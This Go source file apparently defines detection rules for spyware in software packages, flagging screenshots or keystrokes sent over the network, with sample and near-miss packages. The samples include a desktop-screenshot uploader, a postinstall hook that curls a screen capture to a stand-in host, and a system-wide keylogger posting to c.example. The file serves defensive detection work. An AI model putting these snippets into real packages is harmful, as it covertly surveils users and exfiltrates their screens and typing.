package rule

import b "taisei/detect/behaviour"

// spyware: what a person sees, types or says goes to somebody else.
func spyware() []Rule {
	carries := []string{"url", "body", "file", "header"}
	return []Rule{
		{
			ID: "screen_sent", Severity: Critical,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Screen}, Sinks: []string{b.Network}, Slots: carries, Target: Foreign},
				{Triggers: []string{b.Load, b.Call, b.Command}, Sources: []string{b.Screen}, Sinks: []string{b.Network}, Slots: carries, Target: Shady},
			},
			Examples: []Example{
				Package("a picture of the screen", `"main":"i.js"`, map[string]string{"i.js": "const shot=require('screenshot-desktop');setInterval(()=>shot().then(i=>require('axios').post('https://c.example/s',i)),60000)"}),
				Package("by a command", `"scripts":{"postinstall":"screencapture -x /tmp/s.png && curl -F f=@/tmp/s.png https://c.example/s"}`, nil),
			},
			Neighbours: []Example{
				Package("saved only", `"main":"i.js"`, map[string]string{"i.js": "const shot=require('screenshot-desktop');exports.save=()=>shot({filename:'s.png'})"}),
				Package("sent when called", `"main":"i.js"`, map[string]string{"i.js": "const shot=require('screenshot-desktop');exports.report=()=>shot().then(i=>require('axios').post('https://bugs.example/s',i))"}),
			},
		},
		{
			ID: "typing_sent", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import, b.Command}, Sources: []string{b.Keyboard}, Sinks: []string{b.Network}, Slots: carries, Target: Foreign, Script: No}},
			Examples: []Example{
				Package("each key of the whole machine", `"main":"i.js"`, map[string]string{"i.js": "const {GlobalKeyboardListener:L}=require('node-global-key-listener');let s='';new L().addListener(e=>{s+=e.name});setInterval(()=>{fetch('https://c.example/k',{method:'POST',body:s});s=''},9000)"}),
			},
			Neighbours: []Example{
				Package("a shortcut of the whole machine", `"main":"i.js"`, map[string]string{"i.js": "const {GlobalKeyboardListener:L}=require('node-global-key-listener');new L().addListener(e=>{if(e.name==='F9')console.log('now')})"}),
			},
		},
	}
}
